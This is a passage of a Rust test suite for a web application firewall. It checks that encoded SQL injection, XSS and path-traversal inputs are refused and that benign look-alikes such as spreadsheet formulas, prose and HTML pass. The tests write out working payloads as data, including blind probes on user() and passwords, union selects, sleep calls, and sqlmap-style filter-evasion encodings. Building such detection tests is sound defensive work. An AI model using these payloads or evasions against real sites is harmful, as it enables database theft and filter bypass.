                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+1%3D1e0--",
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+1%3C%3E2",
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+or+1%3D2",
                "id=ascii(substr(user()%2C1%2C1))%3E64+%26%26+1%3C2",
            ],
            "sqli-tautology",
        );
        passes(&[
            "if(length(database())>1, a, b) and 1=1 more",
            "x=if(ascii(substr(user(),1,1))>64,1,0) and 1=1 of them",
            "x=if(ascii(substr(user(),1,1))>64,1,0) and 1 = 1.0 of them",
            "=IF(ISNUMBER(SEARCH(\"like\",A1)),1,0)",
            "score=if(len(A1) in range,1,0) maybe",
            "x=if(user_liked(a),1,0)",
        ]);
    }

    #[test]
    fn a_formulas_ordering_times_a_number_passes_as_sqlmaps_equality_does_not() {
        // sqlmap's `([RANDNUM]=[RANDNUM1])*[RANDNUM1]` compares by `=`; a keyed formula's `(2>1)*10` is TRUE times 10.
        passes(&["total=(2>1)*10", "total=(20>10)*10", "score=(3<5)*2"]);
        refused(
            &[
                "id=(1234%3D1234)*5678",
                "id=(1234%3D1234)*1",
                "id=(ascii(substr(user()%2C1%2C1))%3E64)*5678",
            ],
            "sqli-tautology",
        );
    }

    #[test]
    fn the_accounts_names_without_parentheses_and_pg_catalog_read_the_servers_data() {
        // SQL's standard `current_user`, `session_user`, `system_user` take no parentheses (sqlmap's PostgreSQL and
        // SQL Server probes spell them so); PostgreSQL qualifies its own functions by `pg_catalog.`.
        refused(
            &[
                "id=if(ascii(substr(current_user%2C1%2C1))%3E64%2C1%2C0)",
                "id=length(current_user)%3E1",
                "id=len(system_user)%3E1",
                "id=length(pg_catalog.version())%3E1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "ok = len(current_user) > 0;",
            "$x=count($request-> user()->roles)>0;",
            "$x=count(Auth :: user()->roles)>0;",
            "n=len(platform.version())>3;",
        ]);
    }

    #[test]
    fn a_servers_variable_or_account_is_found_by_the_call_index() {
        // `@@` and the accounts named without parentheses are found once per text by the call index (four `memmem`
        // passes), each call then asking it by binary search, not by scanning its own window — which read ~200 times
        // the text for 64 KiB of nested whole-value `if(`s. No counter bounds it here: the index reads a fixed 4
        // bytes a byte, so a count of it could not fail; these cases pin what the index finds.
        refused(
            &[
                "id=if(ascii(substr(@@hostname%2C1%2C1))%3E52%2C1%2C0)",
                "id=if(length(session_user)%3E1%2C1%2C0)",
            ],
            "sqli-tautology",
        );
        passes(&["x=if(len(current_users)>1,1,0)"]);
    }

    #[test]
    fn blind_values_and_literal_chains_read_in_bounded_work() {
        // 64 KiB of the tenth review's shapes: each `=` or quote starts a read that stops within its own unit's
        // bytes or a window, the whole read at most twice the text.
        for unit in [
            "=elt((((",
            "=elt(1=1,",
            "=if((1=1),",
            "x'00'=",
            "=(1=1)",
            "=(1=1)*",
            "' and 1 and 1'",
            // A hexadecimal string literal's quotes each start a chain of them (`' and x'00' and x'00'…`).
            " and x'00'",
            " and b'1'",
            "=1 rlike if(",
            "=1 and 1 in (ascii(",
        ]
        .map(str::to_string)
        .into_iter()
        // Calls nested within [`CALL_WINDOW`], each after a key's `=` one's start: its condition read at its own
        // level only.
        // (a word after each `)`, so no statement ends and each is read).
        .chain(
            ["a=elt(", "a=if(", "a=make_set(("].map(|open| open.repeat(100) + &") x".repeat(100)),
        ) {
            let text = unit.repeat(64 * 1024 / unit.len());
            LINK_READS.with(|c| c.set(0));
            assert!(!tautology(text.as_bytes()), "{unit}");
            let reads = LINK_READS.with(std::cell::Cell::get);
            assert!(
                reads <= 2 * text.len(),
                "{unit}: {reads} bytes read for {}",
                text.len()
            );
        }
    }

    #[test]
    fn a_percent_sign_that_escapes_nothing_is_read_dropped_as_classic_asp_drops_it() {
        // sqlmap's `percentage`: a `%` before each character, which IIS's ASP removes where it escapes nothing.
        refused(&["id=%1%20%A%N%D%20%1%%3D%1"], "sqli-tautology");
        refused(&["id=%1%20%A%N%D%20%S%L%E%E%P%%28%5%%29"], "sqli-function");
        refused(
            &["id=%1%20%U%N%I%O%N%20%A%L%L%20%S%E%L%E%C%T%20%N%U%L%L%%2C%N%U%L%L%%23"],
            "sqli-union",
        );
        passes(&[
            "50% off, or 25% for members",
            "growth was 5%-10% and 1% = 100 basis points",
        ]);
        assert_eq!(
            inspect_url(&config(), "/api", Some("q=100%25%20sure%2C%20or%20so")),
            None
        );
    }

    #[test]
    fn a_number_written_1_e_before_a_parenthesis_is_read_as_mysql_drops_it() {
        // sqlmap's `scientific`: MySQL's lexer reads `sleep 1.e(5 1.e)` as `sleep(5)`.
        refused(
            &[
                "id=1%20AND%20SLEEP%201.e%285%201.e%29",
                "id=1%3BSELECT%20SLEEP%201.e%285%201.e%29%23",
                "id=1%20AND%20BENCHMARK%201.e%285000000%201.e%2CMD5%201.e%281%201.e%29%201.e%29",
            ],
            "sqli-function",
        );
        // Spread through a blind probe's nested calls, which every rule reads, not only a call's name and `(`
        // (sqlmap's `scientific` on `1 OR IFNULL(ASCII(SUBSTR(user(),1,1)),0)>64`, and on a column's length).
        refused(
            &[
                "id=1%20OR%20IFNULL%201.e%28ASCII%201.e%28SUBSTR%201.e%28user%201.e%28%201.e%29%201.e%2C1%201.e%2C1%201.e%29%201.e%29%201.e%2C0%201.e%29%3E64",
                "id=1%20AND%20LENGTH%201.e%28password%201.e%29%3E1",
                "id=1%20AND%201.E%281=1%201.E%29",
            ],
            "sqli-tautology",
        );
        passes(&[
            "see section 1.e (the sleep 1.e) of the guide",
            "sleep 1.e(8h) a night",
            "version 1.e5, see 1.e) below",
            "Steps 1.a, 1.b, 1.e (optional)",
            "ascii 1.e(x) and user 1.e() tables",
        ]);
    }

    #[test]
    fn a_blind_call_with_arithmetic_on_it_is_read_as_the_call() {
        // `length(password)+0` is `length(password)` to every dialect: the probe compared or listed still.
        refused(
            &[
                "id=1+and+5+in+(length(password)%2B0)",
                "id=1+and+5+in+(length(password)+%2B+0)--",
                "id=1+and+5+in+(length(password)*1%2C-1)",
                "id=1+and+length(password)%2B0%3E5",
                "id=1+and+length(password)+-+1+%3E+5--",
                "id=1+and+ascii(substr(password%2C1%2C1))*1%3E64",
                // MySQL's `div` and `mod` are arithmetic too, as in a constant expression.
                "id=1+and+length(password)+div+1%3E5",
                "id=1+and+length(password)+DIV+1%3D8--",
                "id=1+and+ascii(substr(password%2C1%2C1))+mod+256%3E64",
                "id=1+and+5+in+(length(password)+div+1)",
                // The whole value's probe likewise.
                "id=length(database())%2B0%3E1",
                "id=length(database())+div+1%3E1",
                "id=ascii(substr(user()%2C1%2C1))+mod+256%3E64",
            ],
            "sqli-tautology",
        );
        passes(&[
            "x=1 and 2 in (len(s)+1) of the list",
            "page 1 and length(side)+2 > 5 cm",
            "x=1 and 2 in (len(s)+t)",
            "cols=length(row) div 2",
            "size=length(database())+1 chars",
            "x=length(database()) mod 2 > 0 checks parity",
            "In MySQL 7 div 2 = 3 and 7 mod 2 = 1; see length(database names) div 2",
        ]);
    }

    #[test]
    fn a_subquery_after_div_or_mod_is_caught() {
        // MySQL's `div` and `mod` are operators: a subquery after them stands where an operand does.
        refused(
            &[
                "id=1+div+(select+length(password)+from+users)",
                "id=1+div+(select+(case+when+(ascii(substr(user()%2C1%2C1))%3E64)+then+1+else+0+end))",
                "id=1+and+1+mod+(select+1)",
                "id=(1)div(select+1)",
                // The number before them where an operand stands: a sign, `and`, glued, in any case, a line break.
                "id=-1+div+(select+length(password)+from+users)",
                "id=1+and+1mod(select+1)",
                "id=1+DIV+(SELECT+length(password)+FROM+users)",
                "id=1%0adiv%0a(select+length(password)+from+users)",
            ],
            "sqli-subquery",
        );
        passes(&[
            "Install the mod (select 2 files from the list) and put the div 1 mod 2 rule in the grid",
            "grid=12 div (3) columns",
            "12 mod (select one) of the two",
            // A version or a count after a word is prose's number, not an operand: a game's mod, a grid's columns.
            "Install the Fabric 1.20.1 mod (select 'Fabric' from the dropdown)",
            "Download the 1.20 mod (select * from the zip)",
            "Skyrim SE 1.6 mod (select 1 of 3 options)",
            "A 1.5 mod (select 2 files)",
            "Grid of 12 div (select 3 columns)",
            "Use 3 mod (select 1) for the demo",
            // A number with a word after it is a constant and its alias at most: it reads nothing.
            "12 div (select 2 items)",
            "Show 12 div (select 2 items) per row",
        ]);
    }

    #[test]
    fn a_whole_value_probe_inside_a_numeric_function_is_caught() {
        // MySQL's `mod()` and any numeric function wrapping the probe: the value read is the call's.
        refused(
            &[
                "id=mod(length(database())%2C2)%3D1",
                "id=mod(length(database()),2)=1",
                "id=abs(length(database()))%3E1",
                "id=floor(length(database()))%3E1",
                "id=ceil(length(database()))%3E1",
                "id=round(length(database())%2C0)%3E1",
                "id=sign(length(database()))%3D1",
                "id=abs(ascii(substr(user()%2C1%2C1)))%3E64",
                "id=abs(length(database()))+between+1+and+9",
            ],
            "sqli-tautology",
        );
        // No server's data read: spreadsheet formulas, code, prose.
        passes(&[
            "=IF(MOD(LEN(A2),2)=1,\"odd\",\"even\") and =ABS(LEN(B2))>1",
            "f==MOD(LEN(A1),2)=1",
            "x=abs(len(s))>1",
            "x=round(length(name))>3",
            "q=abs(length(database names)) between 1 and 9",
            "abs(12) is 12, round(2.4) is 2, mod(7,2) is 1",
            "SQL tutorial: SELECT MOD(LENGTH(name), 2) FROM users WHERE ABS(price) > 10",
        ]);
    }

    #[test]
    fn arithmetic_around_a_blind_call_reads_a_number_in_parentheses_or_before_it() {
        refused(
            &[
                // A number in parentheses after the operator, `div (1)` with a blank before it too.
                "id=1+and+length(database())+div+(1)%3E1",
                "id=1+and+length(password)+div(1)%3E5",
                "id=1+and+length(password)%2B(0)%3E5",
                "id=1+and+length(password)+div+((1))%3E5",
                "id=1+and+ascii(substr(password%2C1%2C1))+mod+(256)%3E64",
                "id=1+and+5+in+(length(password)+div+(1))",
                "id=length(database())+div+(1)%3E1",
                // After the call's own parentheses close.
                "id=(length(database()))div(1)%3E1",
                "id=1+and+(length(password))+div+(1)%3E5",
                // A number and an operator before the call.
                "id=1+and+5+div+length(password)%3E0",
                "id=1+and+5+div+(length(database()))%3E0",
                "id=1+and+5+mod+length(password)%3E0",
                "id=1+and+5%2Blength(password)%3E0",
                "id=1+and+5+%2B+length(password)+%3E+0",
                "id=1+and+(5)%2Blength(password)%3E0",
                "id=1+and+0%2Bascii(substr(password%2C1%2C1))%3E64",
                "id=0%2Blength(database())%3E1",
                // After a quote, as a comparison of the call is.
                "id=1%27+and+5%2Blength(password)%3E0--+",
            ],
            "sqli-tautology",
        );
        passes(&[
            "it's 5+len(x) > 3 -- ok",
            "Homework: 17 mod 5 = 2 and 17 div 5 = 3, so abs(-3) = 3 and round(2.5) = 3",
            "x=17 mod 5 and y=abs(-3)>0",
            "n=2+length(name)>3",
            "id=5 div (length(name))",
            "cols=length(row) div (2) per row",
            "Python: divmod(17, 5) == (3, 2); abs(len(s)) > 0; round(len(x) / 2) > 1",
            "JS: Math.abs(a.length) > 1 && Math.round(b.length / 2) >= 1",
            "In Lua 5 % 2 == 1 and math.abs(-5) == 5",
            ".grid { width: calc(100% / 3) } .a { margin: round(2.5px, 1px) } div.mod { top: abs(-1px) }",
        ]);
    }

    #[test]
    fn a_tags_closing_bracket_before_a_parenthesised_select_compares_nothing() {
        // A rich-text editor's HTML: a tag's `>` is no comparison.
        passes(&[
            "<span>(12)</span><div>(select an option)</div>",
            "<p>(select 3 items)</p>",
            "<td>12</td><td>(select 3 items)</td>",
            "<span>12</span> <div>(select 2 colors)</div>",
            "<div class=\"mod\">(select 2 mods)</div>",
            "<li>(select *)</li>",
            "<p>Pick <b>(select 1 or 2)</b></p>",
            "<mod>12</mod>(select 3 columns)",
            "<br/>(select 2 seats)",
            "<br />(select 2 seats)",
        ]);
        assert_eq!(
            inspect_body(
                &config(),
                Some("application/json"),
                br#"{"html":"<ul><li>(3)</li><li>(select 2 sizes)</li></ul><div>(select * that apply)</div>"}"#
            )
            .map(|h| h.rule),
            None
        );
        // SQL's `>` still compares: after a number, a name or a `<` that a number's operand precedes.
        refused(
            &[
                "id=1%3E(select+1)",
                "id=1+and+1%3E+(select+length(password)+from+users)",
                "id=1+and+0%3Cid%3E(select+1)",
                "id=1+and+(0)%3Cid%3E(select+1)",
            ],
            "sqli-subquery",
        );
    }

    #[test]
    fn a_blind_call_after_a_sign_is_the_probe_still() {
        // A sign between the arithmetic and the call, or before the whole value's number, changes no reading.
        refused(
            &[
                "id=1+and+5%2B-length(database())%3C0",
                "id=1+and+5%2B%2Blength(password)%3E0",
                "id=1+and+5%2B~length(database())%3E0",
                "id=1+and+5-+-length(password)%3E0",
                "id=1+and+5%2B-abs(length(password))%3C0",
                "id=-5%2Blength(database())%3E1",
                "id=-length(database())%3C-1",
                "id=-mod(length(database())%2C2)%3D-1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "x=-5+len(s)>1",
            "n=-abs(length(name))<-1",
            "=-MOD(LEN(A1),2)=-1",
            "total = 5+-len(items) > 0",
        ]);
    }

    #[test]
    fn a_tag_shaped_comparison_after_a_word_or_literal_still_reads_the_subquery() {
        // `false<true>(select …)` is `(0<1)>(select …)`, `x<a>(select …)` compares two columns, a quote in a tag may
        // close a string around its `<`: only a closing tag after the parenthesis, or no operand before the `<`,
        // makes the `>` a tag's.
        refused(
            &[
                "id=false%3Ctrue%3E(select+count(*)+from+users+where+password+like+%27a%25%27)",
                "id=1%27+and+x%3Ca%3E(select+password+from+users+limit+1)--+",
                "id=1%27+or+false%3Ctrue%3E(select+0)+or+%27",
                "id=1+and+%7Bx+0%7D%3Ctrue%3E(select+0)",
                "id=@@autocommit%3Ctrue%3E(select+0)",
                "id=1%27+and+x%3Ca+-1%3E(select+0)--+",
                "id=1%22+and+x%3Ca%3E(select+1)--+",
                "id=1+and+1%3C%27(+%3Cb+%27%3E(select+0)",
                "id=x%3C%27%3C%2Fb+%27%3E(select+0)",
                "id=1%27+and+x%3Ca%3E(select+0+%2F*)%3C%2Fb%3E*%2F+from+users)--+",
            ],
            "sqli-subquery",
        );
        passes(&[
            "Price 12<div>(select 2 colors)</div>",
            "<p>Choose <i>(select 2)</i> from the list</p>",
            "<p>Step 1:<b>(select 3)</b></p>",
            "<p>(select 3 items) then continue</p>",
            "<img src=\"a.png\"/>(select 3 images)",
        ]);
    }

    #[test]
    fn a_blind_call_in_a_negated_list_is_caught() {
        // `5 not in (length(password))` is `length(password)<>5`, the probe's other half.
        refused(
            &[
                "id=1+and+5+not+in+(length(password))",
                "id=1+and+5+not+in+((length(password))%2C-1)--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "x=1 and 2 not in (len(s)) of the list",
            "1, 2 and 3 not in (4) list",
        ]);
    }

    #[test]
    fn a_string_true_or_a_variable_listed_against_a_blind_call_is_caught() {
        refused(
            &[
                "id=1+and+%27a%27+in+(substr(password%2C1%2C1))",
                "id=1+and+%22a%22+in+(substr(password%2C1%2C1))--",
                "id=1+and+%27r%27+in+(substr(user()%2C1%2C1))",
                "id=1+and+true+in+(length(password))",
                "id=1+and+%40x+in+(length(password))",
                "id=1+and+%40x+not+in+(length(password))--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "O'Brien and 'a' in (substr(s,1,1)) of the docs",
            "x=1 and true in (length(s)) terms",
            "mail 1 and @x in (length(s)) later",
            "x=1 and 'a' in (b)",
            "x=1 and @x in (2)",
        ]);
    }

    #[test]
    fn a_number_written_1_e_and_blanks_before_a_parenthesis_is_dropped_too() {
        refused(
            &[
                "id=1+and+sleep+1.e+(5)",
                "id=sleep+1.e+(5)",
                "id=sleep+1.e++(5+1.e+)",
            ],
            "sqli-function",
        );
        passes(&[
            "see section 1.e (the sleep 1.e) of the guide",
            "Steps 1.a, 1.b, 1.e (optional)",
            "sleep 1.e (8h) a night",
        ]);
    }

    #[test]
    fn a_percent_sign_after_a_number_is_kept_unless_the_text_writes_a_keyword_with_percent_signs() {
        passes(&[
            "Shares were up 1% or 1%=1% this week",
            "up 1% or 1%=1%",
            "rates: 5% or 5%=5% flat",
        ]);
        assert_eq!(
            inspect_url(&config(), "/api", Some("q=up+1%25+or+1%25%3D1%25")),
            None
        );
        // Every character behind a `%` (sqlmap's `percentage`), or a keyword so and a number left bare.
        refused(
            &[
                "id=%1%20%O%R%20%1%%3D%1",
                "id=1%20%O%R%201%%3D1",
                "id=%27%|%|%27%1%27%%3D%27%1",
            ],
            "sqli-tautology",
        );
    }

    /// PHP's `urldecode`, Java's `URLDecoder.decode` and Python's `unquote_plus` read `+` as a space: an origin
    /// that decodes a value once more than the server did (the reason for [`DECODE_ROUNDS`]) reads the `+` a
    /// `%2B` left as a blank, so `1%2Bunion%2Bselect` is `1 union select` to it.
    #[test]
    fn a_plus_that_decoding_left_is_a_space_to_an_origin_that_decodes_the_value_again() {
        let c = config();
        refused(
            &[
                "q=1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers",
                "q=1%252Bunion%252Bselect%252Bpassword%252Bfrom%252Busers",
            ],
            "sqli-union",
        );
        refused(&["u=%27%2Bor%2B%271%27%3D%271"], "sqli-tautology");
        let form = b"name=x&q=1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers";
        assert_eq!(
            inspect_body(&c, Some("application/x-www-form-urlencoded"), form).map(|h| h.rule),
            Some("sqli-union")
        );
        let cookie = [(
            "cookie".to_owned(),
            "theme=dark; q=1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers".to_owned(),
        )];
        assert_eq!(
            inspect_headers(&c, &cookie).map(|h| h.rule),
            Some("sqli-union")
        );
        // A literal `+` read as a blank or as itself is no attack either way: base64, C++, sums, tagged addresses.
        for query in [
            "sig=abc%2Bdef%2Bor%2Bx1%3D%3D",
            "q=C%2B%2B+or+C%23",
            "q=1%2B1%3D2",
            "q=a%2Bb%3Dc+or+d",
            "email=john%2Bnews%40example.com",
            "phone=%2B1+555+123+4567",
            "q=select%2Bmenu%2Bfrom%2Bthe%2Bbar",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
    }

    /// Express's query parser (qs) reads `id[0]=a&id[1]=b`, `id[]=a&id[]=b` and `id=a&id[]=b` as one array, in its
    /// indices' order, which a string built from it joins with `,`: `id[0]=1 union/*&id[1]=*/select …` is
    /// `1 union/*,*/select …` to a query written as `` `… ${req.query.id}` ``.
    #[test]
    fn a_key_an_array_index_repeats_is_read_as_its_values_joined() {
        refused(
            &[
                "id[0]=1+union/*&id[1]=*/select+password+from+users",
                "id=1+union/*&id[]=*/select+password+from+users",
                "id%5B0%5D=1+union/*&id%5B1%5D=*/select+password+from+users",
                "id[1]=*/select+password+from+users&id[0]=1+union/*",
            ],
            "sqli-union",
        );
        assert_eq!(
            inspect_url(
                &config(),
                "/api",
                Some("tags[0]=red&tags[1]=green&tags[2]=blue&filter[a]=1&filter[b]=2")
            ),
            None
        );
    }

    /// NFKC, which the fullwidth fold stands for (Java's `Normalizer`, Python's `unicodedata.normalize`, the
    /// canonicalisation some back ends apply to input), makes ASCII of more than the fullwidth forms: the small form
    /// variants (`﹤script﹥`), the mathematical letters and digits "fancy text" generators write (`<𝐬𝐜𝐫𝐢𝐩𝐭>`), the
    /// long s (`ſelect`), circled letters, ligatures (`load_ﬁle`), Roman numerals' letters (`ⅽ`).
    #[test]
    fn compatibility_characters_nfkc_makes_ascii_are_read_as_that_ascii() {
        refused(
            &[
                "q=%EF%B9%A4script%EF%B9%A5prompt(1)",
                "q=%3C%F0%9D%90%AC%F0%9D%90%9C%F0%9D%90%AB%F0%9D%90%A2%F0%9D%90%A9%F0%9D%90%AD%3Eprompt(1)",
                "q=%3C%F0%9D%93%88%F0%9D%92%B8%F0%9D%93%87%F0%9D%92%BE%F0%9D%93%85%F0%9D%93%89%3Eprompt(1)",
                "q=%3C%E2%93%A2%E2%93%92%E2%93%A1%E2%93%98%E2%93%9F%E2%93%A3%3Eprompt(1)",
                "q=%3C%C5%BFcript%3Eprompt(1)",
            ],
            "xss-script",
        );
        refused(
            &[
                "id=1+union+%C5%BFelect+password+from+users",
                "id=1+union+sele%E2%85%BDt+password+from+users",
                "id=1+union+%F0%9D%98%B4%F0%9D%98%A6%F0%9D%98%AD%F0%9D%98%A6%F0%9D%98%A4%F0%9D%98%B5+password+from+users",
            ],
            "sqli-union",
        );
        refused(
            &[
                "u=%27+or+%271%27%EF%B9%A6%271",
                "u=%27+or+%EF%B8%B51%EF%B8%B6%EF%B9%A6%EF%B8%B51%EF%B8%B6--+-",
            ],
            "sqli-tautology",
        );
        refused(&["f=load_%EF%AC%81le(%27x%27)"], "sqli-function");
        refused(&["id=1%CD%BEdrop+table+users"], "sqli-stacked");
        passes(&[
            "そして‥次へ。待って‥‥",
            "𝐒𝐞𝐥𝐞𝐜𝐭 𝐚 𝐬𝐞𝐚𝐭 𝐟𝐫𝐨𝐦 𝐭𝐡𝐞 𝐥𝐢𝐬𝐭 𝐨𝐫 𝐝𝐫𝐨𝐩 𝐮𝐬 𝐚 𝐥𝐢𝐧𝐞",
            "你好﹐世界﹒再见﹗（笑）",
            "Ⓢⓔⓛⓔⓒⓣ ⓐ ⓢⓔⓐⓣ; ⓤⓝⓘⓞⓝ ⓗⓐⓛⓛ",
            "ﬁnd the ﬁle and ﬂoor plan",
            "Chapter Ⅻ and ⅽ. 1900",
            "Τι κάνεις; καλά",
        ]);
    }

    /// [`compatibility_ascii`] finds its characters by binary search.
    #[test]
    fn the_compatibility_table_is_sorted() {
        assert!(COMPATIBILITY.windows(2).all(|w| w[0].0 < w[1].0));
    }

    /// NFKC's other spellings of a parent segment: the two-dot leader (`‥`, and its vertical form `︰`) is `..`, the
    /// small full stop `﹒` a `.`, the small reverse solidus `﹨` a `\` — read where a `．．／` is, at a value's start
    /// or after a separator, so Japanese prose's `‥` ellipsis passes.
    #[test]
    fn a_parent_segment_spelled_in_nfkc_compatibility_characters_is_caught() {
        refused(
            &[
                "f=%E2%80%A5/%E2%80%A5/app/.env",
                "f=%E2%80%A5%2F%E2%80%A5%2Fapp%2F.env",
                "f=%EF%B8%B0/%EF%B8%B0/app/.env",
                "f=%EF%B9%92%EF%B9%92/app/.env",
                "f=..%EF%B9%A8..%EF%B9%A8web.config",
                "f=app/%E2%80%A5",
            ],
            "traversal-dotdot",
        );
        passes(&["そして‥次の日", "待って‥／次", "価格は１﹒５です", "A﹨B"]);
    }

    /// Jackson (Spring's JSON bodies) and every XML parser read a body in UTF-16 or UTF-32 without a charset, by
    /// its byte-order mark or the NULs around its first ASCII character: an attack so spelled was read as bytes,
    /// refused only by the traversal rule's NUL, and passed where that rule is not configured.
    #[test]
    fn a_textual_body_in_utf16_or_utf32_is_read_as_its_parsers_decode_it() {
        let utf16 = |text: &str, big: bool, bom: bool| -> Vec<u8> {
            let mut out = Vec::new();
            for unit in std::iter::once(0xFEFF)
                .filter(|_| bom)
                .chain(text.encode_utf16())
            {
                out.extend(if big {
                    unit.to_be_bytes()
                } else {
                    unit.to_le_bytes()
                });
            }
            out
        };
        let utf32 = |text: &str, big: bool| -> Vec<u8> {
            text.chars()
                .flat_map(|c| {
                    if big {
                        u32::from(c).to_be_bytes()
                    } else {
                        u32::from(c).to_le_bytes()
                    }
                })
                .collect()
        };
        let sql_and_xss = WafConfig {
            rules: vec![RuleSet::Sqli, RuleSet::Xss],
            ..WafConfig::default()
        };
        let json = r#"{"q":"1 union select password from users"}"#;
        let xml = "<?xml version=\"1.0\"?><q>&lt;script&gt;prompt(1)&lt;/script&gt;</q>";
        for (label, ct, body, rule) in [
            (
                "json utf-16le",
                "application/json",
                utf16(json, false, false),
                "sqli-union",
            ),
            (
                "json utf-16be",
                "application/json",
                utf16(json, true, false),
                "sqli-union",
            ),
            (
                "json utf-16le bom",
                "application/json",
                utf16(json, false, true),
                "sqli-union",
            ),
            (
                "json utf-32le",
                "application/json",
                utf32(json, false),
                "sqli-union",
            ),
            (
                "json utf-32be",
                "application/json",
                utf32(json, true),
                "sqli-union",
            ),
            (
                "xml utf-16le bom",
                "application/xml",
                utf16(xml, false, true),
                "xss-script",
            ),
            (
                "xml utf-16be",
                "text/xml",
                utf16(xml, true, false),
                "xss-script",
            ),
        ] {
            assert_eq!(
                inspect_body(&sql_and_xss, Some(ct), &body).map(|h| h.rule),
                Some(rule),
                "{label}"
            );
        }
        let benign = utf16(r#"{"name":"O'Brien","note":"see you at 5"}"#, false, true);
        assert_eq!(
            inspect_body(&sql_and_xss, Some("application/json"), &benign),
            None
        );
    }
}
